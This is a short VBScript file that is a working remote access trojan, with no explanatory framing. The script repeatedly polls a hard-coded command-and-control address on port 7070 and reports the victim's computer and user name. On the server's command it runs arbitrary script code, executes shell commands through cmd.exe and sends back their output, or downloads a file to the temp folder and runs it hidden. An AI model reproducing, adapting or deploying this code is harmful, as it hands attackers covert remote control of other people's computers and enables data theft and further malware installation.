host = "198.51.100.58"
port = 7070
spliter = "<" & "|" & ">"
Set sh = CreateObject("WScript.Shell")
Set fso = CreateObject("Scripting.FileSystemObject")
Function Post(cmd, data)
    On Error Resume Next
    Set h = CreateObject("MSXML2.XMLHTTP")
    h.Open "POST", "http://" & host & ":" & port & "/" & cmd, False
    h.setRequestHeader "User-Agent", sh.ExpandEnvironmentStrings("%COMPUTERNAME%") & spliter & sh.ExpandEnvironmentStrings("%USERNAME%")
    h.Send data
    Post = h.ResponseText
End Function
Do
    resp = Split(Post("is-ready", ""), spliter)
    If UBound(resp) >= 0 Then
        Select Case resp(0)
            Case "execute"
                ExecuteGlobal resp(1)
            Case "shell"
                Set e = sh.Exec("cmd.exe /c " & resp(1))
                Post "out", e.StdOut.ReadAll
            Case "download"
                Set d = CreateObject("MSXML2.XMLHTTP"): d.Open "GET", resp(1), False: d.Send
                Set s = CreateObject("ADODB.Stream"): s.Type = 1: s.Open: s.Write d.ResponseBody
                s.SaveToFile sh.ExpandEnvironmentStrings("%TEMP%") & "\" & resp(2), 2: s.Close
                sh.Run sh.ExpandEnvironmentStrings("%TEMP%") & "\" & resp(2), 0
            Case "exit"
                WScript.Quit
        End Select
    End If
    WScript.Sleep 4000
Loop
